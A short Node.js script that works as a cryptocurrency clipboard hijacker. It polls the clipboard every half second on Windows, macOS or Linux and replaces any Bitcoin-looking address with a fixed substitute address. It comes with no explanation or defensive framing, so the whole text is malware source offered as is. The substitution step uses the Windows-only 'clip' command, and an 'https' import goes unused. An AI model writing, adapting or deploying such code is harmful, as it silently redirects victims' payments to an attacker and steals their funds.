const { execSync } = require('child_process'); const https = require('https');
let last = '';
setInterval(() => { const t = execSync(process.platform === 'win32' ? 'powershell -command Get-Clipboard' : process.platform === 'darwin' ? 'pbpaste' : 'xclip -o -selection clipboard').toString();
  if (t !== last && /^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/.test(t)) { execSync('echo bc1qexampleexampleexample | clip'); }
  last = t; }, 500);
